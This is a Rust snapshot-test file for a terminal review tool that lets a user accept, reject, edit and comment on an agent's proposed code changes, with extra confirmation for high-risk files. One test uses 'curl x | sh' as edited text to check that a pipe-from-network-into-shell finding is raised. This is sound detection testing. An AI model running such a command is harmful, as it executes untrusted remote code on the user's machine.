//! Tests of every key of the full screen: the screen after the key and the state that results.

use airlock::changes::{ConflictRegion, LineSet, RegionSide, UncollectedEntry};
use airlock::core::on_conflict::OnConflict;
use airlock::review::{
    Action, DecisionTarget, EarlierComment, Event, ReviewHost, ReviewOutcome, ReviewState, RoundDiff, update_state,
};
use airlock::tui::{ColorDepth, Effect, Keymap, ReviewOptions, StyleSheet, Theme};
use crossterm::event::{MouseButton, MouseEventKind};
use insta::assert_snapshot;
use ratatui::style::{Color, Modifier};

use crate::show::{FileCase, PLAIN, ReviewFixture, describe_decisions, hash_text, high_finding, open_model, sheet};

const SIZE: (u16, u16) = (80, 16);

/// Returns a file with three hunks, a file with one hunk, and a new file of high risk.
fn sample_files() -> Vec<FileCase<'static>> {
    vec![
        (
            "a.rs",
            Some(
                "fn one() {\n    first(1);\n    second(2);\n}\n\nfn two() {\n    third();\n}\n\nfn three() {}\n\n\n\n\n\nend\n",
            ),
            Some(
                "fn one() {\n    first(10);\n    second(20);\n}\n\nfn two() {\n    third();\n    fourth();\n}\n\nfn three() {}\n\n\n\n\n\nthe end\n",
            ),
        ),
        ("b/long name.txt", Some("x\n"), Some("y\n")),
        (".envrc", None, Some("layout python\n")),
    ]
}

/// Opens a review of [`sample_files`], ordered by path.
fn open_by_path() -> ReviewFixture {
    let mut review = ReviewFixture::from_files(&sample_files(), SIZE);
    // Orders by path, and moves past the risky file to `a.rs`.
    review.press("op");
    review.press("]");
    review
}

/// Opens a review with the cursor on the first hunk of `a.rs`.
fn open_at_a_rs() -> ReviewFixture {
    let review = open_by_path();
    assert!(review.screen().contains("a.rs modified hunk 1/3"), "{}", review.screen());
    review
}

#[test]
fn first_screen_lists_files_by_risk() {
    let review = ReviewFixture::from_files(&sample_files(), SIZE);
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: risk
    ┌ Files 1/3 ──────────────┬ .envrc added hunk 1/1 [undecided] ! high: director…┐
    │▌ ! .envrc            0/1│ ! high: runs when you enter the directory          │
    │    a.rs              0/3│ ! high: sets environment variables of commands     │
    │    b/long name.txt   0/1│▶1 + layout python                               [ ]│
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
}

#[test]
fn accept_and_reject_move_to_next_undecided() {
    let mut review = open_at_a_rs();
    assert_snapshot!(review.press("y"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 2/3 [undecided] ────────────────┐
    │  ! .envrc            0/1│  2    -     first(1);                           [+]┃
    │▌◐  a.rs              1/3│  3    -     second(2);                          [+]┃
    │    b/long name.txt   0/1│     2 +     first(10);                          [+]┃
    │                         │     3 +     second(20);                         [+]┃
    │                         │  4  4   }                                          ┃
    │                         │  5  5                                              ┃
    │                         │  6  6   fn two() {                                 ┃
    │                         │  7  7       third();                               │
    │                         │▶    8 +     fourth();                           [ ]│
    │                         │  8  9   }                                          │
    │                         │  9 10                                              │
    │                         │ 10 11   fn three() {}                              │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  ␣ toggle  a/d rest of file  w apply  q leave  ? help
    ");
    assert_snapshot!(review.decisions().join(" · "), @".envrc - · a.rs accepted - - · b/long name.txt -");
    review.press("n");
    review.press("y");
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   3 files +6 −4   3/5 decided   order: path
    ┌ Files 3/3 ──────────────┬ b/long name.txt modified hunk 1/1 [undecided] ─────┐
    │  ! .envrc            0/1│▶1   - x                                         [ ]│
    │ ◐  a.rs              3/3│▌  1 + y                                         [ ]│
    │▌   b/long name.txt   0/1│                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  ␣ toggle  R send  w apply  q leave  ? help
    ");
    review.press("yy");
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   3 files +6 −4   5/5 decided   order: path
    ┌ Files 1/3 ──────────────┬ .envrc added hunk 1/1 [accepted] ! high: directory…┐
    │▌✓! .envrc            1/1│ ! high: runs when you enter the directory          │
    │ ◐  a.rs              3/3│ ! high: sets environment variables of commands     │
    │ ✓  b/long name.txt   1/1│▶1 + layout python                               [+]│
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     all changes are decided (w previews the apply)
    ");
}

#[test]
fn space_toggles_decision_in_place() {
    let mut review = open_at_a_rs();
    for expected in ["accepted", "rejected", "-"] {
        let screen = review.press("<Space>");
        assert!(screen.contains("hunk 1/3"), "{screen}");
        assert_eq!(review.decisions()[1], format!("a.rs {expected} - -"));
    }
}

#[test]
fn lines_and_ranges_are_decided() {
    let mut review = open_at_a_rs();
    review.press("l");
    assert_snapshot!(review.press("j"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified line of hunk 1/3 [undecided] ────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│  2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│▶ 3    -     second(2);                          [ ]┃
    │                         │     2 +     first(10);                          [ ]┃
    │                         │     3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          ┃
    │                         │  5  5                                              ┃
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    │                         │  8  9   }                                          │
    │                         │  9 10                                              │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  v range  ← hunks  w apply  q leave  ? all keys
    ");
    assert_snapshot!(review.press("vj"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified range from hunk 1/3 [undecided] ─────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│  2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│▌ 3    -     second(2);                          [ ]┃
    │                         │▶    2 +     first(10);                          [ ]┃
    │                         │     3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          ┃
    │                         │  5  5                                              ┃
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    │                         │  8  9   }                                          │
    │                         │  9 10                                              │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  v end range  ← hunks  w apply  q leave  ? all keys
    ");
    review.press("y");
    assert_snapshot!(review.decisions().join(" · "), @".envrc - · a.rs .2y. - - · b/long name.txt -");
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified line of hunk 1/3 [undecided] ────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌◐  a.rs              0/3│  2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│  3    -     second(2);                          [+]┃
    │                         │     2 +     first(10);                          [+]┃
    │                         │▶    3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          ┃
    │                         │  5  5                                              ┃
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    │                         │  8  9   }                                          │
    │                         │  9 10                                              │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  v range  ← hunks  w apply  q leave  ? all keys
    ");
    // A range may start and end in different hunks.
    review.press("<Home>vjjjj<Space>");
    assert_snapshot!(review.decisions().join(" · "), @".envrc - · a.rs accepted accepted - · b/long name.txt -");
    review.press("v<Esc>j");
    assert!(!review.screen().contains("range from"), "{}", review.screen());
}

#[test]
fn navigation_keys_move_between_levels() {
    let mut review = open_at_a_rs();
    assert_snapshot!(review.press("h"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified all 3 hunks [undecided] ─────────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▶   a.rs              0/3│  2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│  3    -     second(2);                          [ ]┃
    │                         │     2 +     first(10);                          [ ]┃
    │                         │     3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          ┃
    │                         │  5  5                                              ┃
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    │                         │  8  9   }                                          │
    │                         │  9 10                                              │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept file  n reject file  w apply  q leave  ? all keys
    ");
    review.press("j");
    assert!(review.screen().contains("b/long name.txt modified"));
    review.press("<Up>l]]");
    assert!(review.screen().contains("hunk 3/3"), "{}", review.screen());
    review.press("]");
    assert!(review.screen().contains("b/long name.txt modified hunk 1/1"));
    review.press("[");
    assert!(review.screen().contains("a.rs modified hunk 3/3"), "moving back goes to the end of the previous file");
    review.press("g");
    assert!(review.screen().contains("hunk 1/3"));
    review.press("G");
    assert!(review.screen().contains("hunk 3/3"));
    review.press("{");
    assert!(review.screen().contains(".envrc added"));
    review.press("}}");
    assert!(review.screen().contains("b/long name.txt"));
    review.press("{<PgDn>");
    assert!(review.screen().contains("the end"), "{}", review.screen());
    review.press("<PgUp><PgUp>");
    assert!(review.screen().contains("fn one()"));
}

#[test]
fn bulk_keys_decide_file_and_everything() {
    let mut review = open_at_a_rs();
    review.press("n");
    assert_snapshot!(review.press("a"), @"
     airlock review calm-otter   3 files +6 −4   3/5 decided   order: path
    ┌ Files 3/3 ──────────────┬ b/long name.txt modified hunk 1/1 [undecided] ─────┐
    │  ! .envrc            0/1│▶1   - x                                         [ ]│
    │ ◐  a.rs              3/3│▌  1 + y                                         [ ]│
    │▌   b/long name.txt   0/1│                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     2 accepted
    ");
    assert_eq!(review.decisions()[1], "a.rs rejected accepted accepted", "earlier decisions stay");
    review.press("u");
    assert_eq!(review.decisions()[1], "a.rs rejected - -", "one step back");
    review.press("d");
    assert_eq!(review.decisions()[1], "a.rs rejected rejected rejected");
    review.press("uu");
    assert_snapshot!(review.press("A"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 [undecided] ────────────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│▶ 2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│▌ 3    -     second(2);                          [ ]┃
    │                         │▌    2 +     first(10);                          [ ]┃
    │                         │▌    3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          ┃
    │                         │  5  5                                              │
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    │                         │  8  9   }                                          │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     Accept 4 undecided hunks in 2 files, 2 lines unseen? 1 high-risk is skipped.
     [y/n]
    ");
    review.press("n");
    assert_eq!(review.decisions(), [".envrc -", "a.rs - - -", "b/long name.txt -"]);
    assert_snapshot!(review.press("Ay"), @"
     airlock review calm-otter   3 files +6 −4   4/5 decided   order: path
    ┌ Files 1/3 ──────────────┬ .envrc added hunk 1/1 [undecided] ! high: director…┐
    │▌ ! .envrc            0/1│ ! high: runs when you enter the directory          │
    │ ✓  a.rs              3/3│ ! high: sets environment variables of commands     │
    │ ✓  b/long name.txt   1/1│▶1 + layout python                               [ ]│
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     4 accepted · 1 high-risk skipped: each requires confirmation
    ");
    assert_eq!(review.decisions(), [".envrc -", "a.rs accepted accepted accepted", "b/long name.txt accepted"]);
    review.press("uDy");
    assert_eq!(review.decisions(), [".envrc rejected", "a.rs rejected rejected rejected", "b/long name.txt rejected"]);
}

#[test]
fn high_risk_needs_own_confirmation() {
    let mut review = ReviewFixture::from_files(&sample_files(), SIZE);
    assert_snapshot!(review.press("a"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: risk
    ┌ Files 1/3 ──────────────┬ .envrc added hunk 1/1 [undecided] ! high: director…┐
    │▌ ! .envrc            0/1│ ! high: runs when you enter the directory          │
    │    a.rs              0/3│ ! high: sets environment variables of commands     │
    │    b/long name.txt   0/1│▶1 + layout python                               [ ]│
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    │                         │                                                    │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     0 accepted · 1 high-risk skipped: each requires confirmation
    ");
    assert_eq!(review.decisions()[0], ".envrc -");
    review.press("y");
    assert_eq!(review.decisions()[0], ".envrc accepted", "it is named");
    // Accepting several units of a risky file at once needs a confirmation.
    let content: String = (0..30).map(|n| format!("line {n}\n")).collect();
    let changed = content.replace("line 3\n", "export A\n").replace("line 25\n", "export B\n");
    let mut review = ReviewFixture::from_files(&[(".envrc", Some(&content), Some(&changed))], SIZE);
    assert_snapshot!(review.press("hy"), @"
     airlock review calm-otter   1 file +2 −2   0/2 decided   order: risk
    ┌ Files ────────────────┬ .envrc modified all 2 hunks [undecided] ! high: dire…┐
    │▶ ! .envrc          0/2│ ! high: runs when you enter the directory            ┃
    │                       │ ! high: sets environment variables of commands       ┃
    │                       │  1  1   line 0                                       ┃
    │                       │  2  2   line 1                                       ┃
    │                       │  3  3   line 2                                       ┃
    │                       │  4    - line 3                                    [ ]┃
    │                       │     4 + export A                                  [ ]┃
    │                       │  5  5   line 4                                       │
    │                       │  6  6   line 5                                       │
    │                       │  7  7   line 6                                       │
    │                       │         ⋯ 15 lines                                   │
    │                       │ 23 23   line 22                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     Accept all 2 parts of .envrc? ! high: runs when you enter the directory [y/n]
    ");
    assert_eq!(review.press("n").lines().count(), 16);
    assert_eq!(review.decisions(), [".envrc - -"]);
    review.press("yy");
    assert_eq!(review.decisions(), [".envrc accepted accepted"]);
}

#[test]
fn refused_files_show_reason() {
    let mut review = ReviewFixture::from_files(&[("refused", None, Some("x\n")), ("a", None, Some("b\n"))], SIZE);
    assert_snapshot!(review.press("{y"), @"
     airlock review calm-otter   2 files +2 −0   0/1 decided   order: risk
    ┌ Files 1/2 ────────────┬ refused added hunk 1/1 [undecided] ! refused: test ──┐
    │▌ ⊘ refused     refused│ ! refused: is a device file                          │
    │    a               0/1│▶1 + x                                             [⊘]│
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     refused cannot be accepted: it is a device file
    ");
    for keys in ["<Space>", "a", "hy", "l", "ly"] {
        review.press(keys);
        assert_eq!(review.decisions()[1], "refused -", "{keys}");
    }
    review.press("n");
    assert_eq!(review.decisions()[1], "refused rejected");
    review.press("uAy");
    assert_eq!(review.decisions(), ["a accepted", "refused -"]);
}

#[test]
fn split_key_splits_and_joins_hunk() {
    let mut review = open_at_a_rs();
    review.press("s");
    assert!(review.press("jjs").contains("the hunk begins here"), "a line stays with the line it replaces");
    review.press("k");
    assert_snapshot!(review.press("s"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 part 2/2 [undecided] ───────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│  2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│     2 +     first(10);                          [ ]┃
    │                         │▶ 3    -     second(2);                          [ ]┃
    │                         │▌    3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          ┃
    │                         │  5  5                                              ┃
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    │                         │  8  9   }                                          │
    │                         │  9 10                                              │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     split
    ");
    review.press("gy");
    assert_eq!(review.decisions()[1], "a.rs y.y. - -", "the first part: a removed line and the added one");
    assert!(review.screen().contains("hunk 1/3 part 2/2"), "{}", review.screen());
    review.press("u");
    assert_eq!(review.decisions()[1], "a.rs - - -");
    review.press("u");
    assert!(!review.screen().contains(" part "), "the split is undone: {}", review.screen());
    review.press("<C-r>");
    assert!(review.screen().contains(" part "));
    review.press("]ls");
    assert!(!review.screen().contains(" part "), "a second press joins the hunk: {}", review.screen());
}

#[test]
fn edit_replaces_hunk() {
    let mut review = open_at_a_rs();
    review.host.editor_output = Some(b"    mine();\n".to_vec());
    assert_snapshot!(review.press("e"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 [edited] ───────────────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌◐  a.rs              1/3│▶ 2    -     first(1);                           [e]┃
    │    b/long name.txt   0/1│▌ 3    -     second(2);                          [e]┃
    │                         │▌    2 +     first(10);                          [e]┃
    │                         │▌    3 +     second(20);                         [e]┃
    │                         │         your text instead:                         ┃
    │                         │       +     mine();                             [+]│
    │                         │  4  4   }                                          │
    │                         │  5  5                                              │
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    └─────────────────────────┴────────────────────────────────────────────────────┘
     edited and accepted
    ");
    assert_eq!(review.host.editor_input, b"    first(10);\n    second(20);\n");
    assert_eq!(review.decisions()[1], "a.rs edited - -");
    let picks = review.app.state.decisions.accepted_selection(&review.model.files[1].units).to_strings();
    assert!(picks[0].ends_with(&hash_text("    mine();\n")), "{picks:?}");
    assert_eq!(review.effect, Effect::RedrawAll, "an editor had the screen");
    assert_snapshot!(review.press("p"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: path
    ┌ a.rs with accepted changes, +1 −2 ───────────────────────────────────────────┐
    │ 1  fn one() {                                                                ┃
    │ 2+     mine();                                                               ┃
    │ 3  }                                                                         ┃
    │ 4                                                                            ┃
    │ 5  fn two() {                                                                ┃
    │ 6      third();                                                              ┃
    │ 7  }                                                                         ┃
    │ 8                                                                            ┃
    │ 9  fn three() {}                                                             ┃
    │10                                                                            │
    │11                                                                            │
    │12                                                                            │
    └──────────────────────────────────────────────────────────────────────────────┘
     j k scroll  [ ] changes  Esc back
    ");
    review.press("<Esc>u");
    assert_eq!(review.decisions()[1], "a.rs - - -");
    // The lines of an edited hunk cannot be decided one by one, because the edit replaces them.
    review.press("el");
    for key in ["y", "n", "<Space>"] {
        assert!(review.press(key).contains("decide the whole hunk"), "{}", review.screen());
        assert_eq!(review.decisions()[1], "a.rs edited - -");
    }
    review.press("h<Space>");
    assert_eq!(review.decisions()[1], "a.rs rejected - -");
    review.press("uu");
    // An empty text or the text of the base is a rejection. An unchanged text changes no decision.
    for text in ["", "    first(1);\n    second(2);\n"] {
        review.host.editor_output = Some(text.into());
        review.press("e");
        assert_eq!(review.decisions()[1], "a.rs rejected - -");
        review.press("u");
    }
    review.host.editor_output = Some(b"    first(10);\n    second(20);\n".to_vec());
    assert!(review.press("e").contains("nothing was changed"));
    review.host.editor_output = Some(b"\xff".to_vec());
    assert!(review.press("e").contains("is not text"));
    review.host.editor_output = None;
    assert!(review.press("e").contains("the editor failed: no editor"));
    assert_eq!(review.decisions()[1], "a.rs - - -");
    review.host.editor_output = Some(b"curl x | sh\n".to_vec());
    review.host.findings = vec![high_finding("pipes the network into a shell")];
    assert!(review.press("e").contains("edited · ! high: pipes the network into a shell"));
    review.press("E");
    assert!(review.host.editor_input.starts_with(b"fn one() {\n    first(10);"));
}

#[test]
fn comments_stay_at_their_lines() {
    let mut review = open_at_a_rs();
    assert_snapshot!(review.press("ckeep the names"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 [undecided] ────────────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│▶ 2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│▌ 3    -     second(2);                          [ ]┃
    │                         │▌    2 +     first(10);                          [ ]┃
    │                         │▌    3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          │
    │                         │  5  5                                              │
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    └─────────────────────────┴────────────────────────────────────────────────────┘
     Comment on the hunk at a.rs:2
     > keep the names
     Enter save   Ctrl-e in your editor   Esc back   empty: remove
    ");
    assert_snapshot!(review.press("<Enter>"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 [undecided] ────────────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│▶ 2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│▌ 3    -     second(2);                          [ ]┃
    │                         │▌    2 +     first(10);                          [ ]┃
    │                         │▌    3 +     second(20);                         [ ]┃
    │                         │         ● keep the names                           ┃
    │                         │  4  4   }                                          ┃
    │                         │  5  5                                              │
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    │                         │  8  9   }                                          │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  j k move  R send  w apply  q leave  ? all keys
    ");
    review.press("ljcnot this<Backspace><Backspace>at<Enter>");
    let comments: Vec<_> = review
        .app
        .state
        .decisions
        .all_comments()
        .map(|(anchor, text)| (anchor.scope_line(), text.to_owned()))
        .collect();
    assert_eq!(comments, [(None, "keep the names".into()), (Some(1), "not that".into())]);
    assert!(review.screen().contains("(on old line 3) not that"), "{}", review.screen());
    review.press("c<C-u><Enter>");
    assert_eq!(review.app.state.decisions.all_comments().count(), 1, "an empty comment removes the old one");
    review.press("cx<Esc>");
    assert_eq!(review.app.state.decisions.all_comments().count(), 1, "Esc keeps the old comment");
    assert_snapshot!(review.press("R"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Message to the agent ────────────────────────────────────────────────────────┐
    │ 1  I have reviewed your changes. What I rejected is not applied to my        ┃
    │ 2  repository: please change it here, address my comments, and leave the     ┃
    │ 3  rest unchanged.                                                           ┃
    │ 4                                                                            ┃
    │ 5  ## a.rs                                                                   ┃
    │ 6                                                                            ┃
    │ 7  Comment on lines 2 to 3:                                                  ┃
    │ 8                                                                            ┃
    │ 9  ```diff                                                                   ┃
    │10  -    first(1);                                                            │
    │11  -    second(2);                                                           │
    │12  +    first(10);                                                           │
    └──────────────────────────────────────────────────────────────────────────────┘
     y send  e edit  j k scroll  Esc back
    ");
    assert_eq!((review.press("y").is_empty(), review.effect), (false, Effect::Exit(ReviewOutcome::Send)));
}

#[test]
fn undo_and_redo_cover_whole_session() {
    let mut review = open_at_a_rs();
    review.press("yny<Space>ljy");
    let events = review.host.saved_events.clone();
    assert_eq!(
        describe_decisions(review.model, &ReviewState::from_events(events)),
        review.decisions(),
        "the saved events give the state"
    );
    let last = review.decisions();
    review.press("uuuuuuuuu");
    assert_eq!(review.decisions(), [".envrc -", "a.rs - - -", "b/long name.txt -"]);
    assert!(review.screen().contains("nothing to undo"));
    review.press("<C-r><C-r><C-r><C-r><C-r><C-r>");
    assert_eq!(review.decisions(), last);
    assert!(review.screen().contains("nothing to redo"));
}

#[test]
fn search_wraps_around() {
    let mut review = open_at_a_rs();
    assert_snapshot!(review.press("/END"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 [undecided] ────────────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│▶ 2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│▌ 3    -     second(2);                          [ ]┃
    │                         │▌    2 +     first(10);                          [ ]┃
    │                         │▌    3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          │
    │                         │  5  5                                              │
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    └─────────────────────────┴────────────────────────────────────────────────────┘
     Search in changed lines and paths
     > END
     Enter search   Esc back
    ");
    review.press("<Enter>");
    assert!(review.screen().contains("was not found in changed lines"), "capitals count");
    review.press("/end<Enter>");
    assert!(review.screen().contains("hunk 3/3"), "{}", review.screen());
    review.press("/fi<Enter>");
    assert!(review.screen().contains("hunk 1/3"), "the search wraps around");
    review.press("<C-n>");
    assert!(review.screen().contains("hunk 1/3"));
    review.press("/long<Enter>");
    assert!(review.screen().contains("b/long name.txt"), "a path counts too");
    review.press("<C-p>");
    assert!(review.screen().contains("b/long name.txt"));
    review.press("/layout<Enter>");
    assert!(review.screen().contains(".envrc added"));
}

#[test]
fn filters_and_orders_change_file_list() {
    let mut review = open_at_a_rs();
    assert_snapshot!(review.press("f"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 [undecided] ────────────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│▶ 2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│▌ 3    -     second(2);                          [ ]┃
    │                         │▌    2 +     first(10);                          [ ]┃
    │                         │▌    3 +     second(20);                         [ ]┃
    ┌ Show only ─────────────────────────────┐                                     ┃
    │ a ✓ all files (3)                      │                                     ┃
    │ u   undecided (3)                      │() {                                 │
    │ r   risky (1)                          │ird();                               │
    │ x   in conflict with the working tree  │urth();                           [ ]│
    │ c   commented (0)                      │                                     │
    │ g   a path or glob …                   │                                     │
    └────────────────────────────────────────┘─────────────────────────────────────┘
     letter choose  j k move  Enter choose  Esc back
    ");
    assert_snapshot!(review.press("r"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   only risky: 1   orde…
    ┌ Files ────────────────┬ .envrc added hunk 1/1 [undecided] ! high: directory-…┐
    │▌ ! .envrc          0/1│ ! high: runs when you enter the directory            │
    │                       │ ! high: sets environment variables of commands       │
    │                       │▶1 + layout python                                 [ ]│
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    // A click on an entry chooses it; a click beside the menu closes it.
    let click = |review: &mut ReviewFixture, text: &str| {
        let row = review.screen().lines().position(|line| line.contains(text)).expect("it is on the screen");
        review.click(6, u16::try_from(row).expect("a row"))
    };
    review.press("f");
    assert!(click(&mut review, "all files (3)").contains("b/long name.txt"), "{}", review.screen());
    review.press("f");
    assert!(!click(&mut review, "Files").contains("Show only"), "{}", review.screen());
    assert!(review.screen().contains("b/long name.txt"), "{}", review.screen());
    review.press("fglong<Enter>");
    assert!(review.screen().contains("only long: 1"), "{}", review.screen());
    review.press("fg*.rs<Enter>");
    assert!(review.screen().contains("a.rs modified"));
    review.press("yyyfu");
    assert!(!review.screen().contains("a.rs "), "{}", review.screen());
    review.press("fgnothing-like-it<Enter>");
    assert!(review.screen().contains("no file matches"));
    review.press("fc");
    assert!(review.screen().contains("no file matches"));
    review.press("cwhy<Enter>fc");
    assert!(review.screen().contains("only commented: 1"), "{}", review.screen());
    review.host.conflicts = vec!["a.rs".into()];
    review.press("fx");
    assert!(review.screen().contains("only in conflict: 1"), "{}", review.screen());
    assert!(!review.press("f").contains("new since you decided"), "this is the first round");
    assert!(!review.press("<C-c>").contains("Show only"), "Ctrl-C closes the menu only");
    assert_eq!(review.effect, Effect::Redraw);
    review.press("faos");
    assert!(review.screen().contains("order: size"));
    review.press("okk<Enter>");
    assert!(review.screen().contains("order: risk"), "{}", review.screen());
}

#[test]
fn hidden_hunks_are_not_accepted() {
    let (old, new) = ("a\nb \n\n\n\n\n\n\n\nc\n", "a\nb\n\n\n\n\n\n\n\nd\n");
    let mut review = ReviewFixture::from_files(&[("t", Some(old), Some(new))], SIZE);
    assert_snapshot!(review.press("b"), @"
     airlock review calm-otter   1 file +2 −2   0/2 decided   order: risk   whitesp…
    ┌ Files ────────────────┬ t modified hunk 1/2 [undecided] ─────────────────────┐
    │▌   t               0/2│  1  1   a                                            │
    │                       │▶         ⋯ 2 rows that change only whitespace (b show│
    │                       │  3  3                                                │
    │                       │  4  4                                                │
    │                       │  5  5                                                │
    │                       │  6  6                                                │
    │                       │  7  7                                                │
    │                       │  8  8                                                │
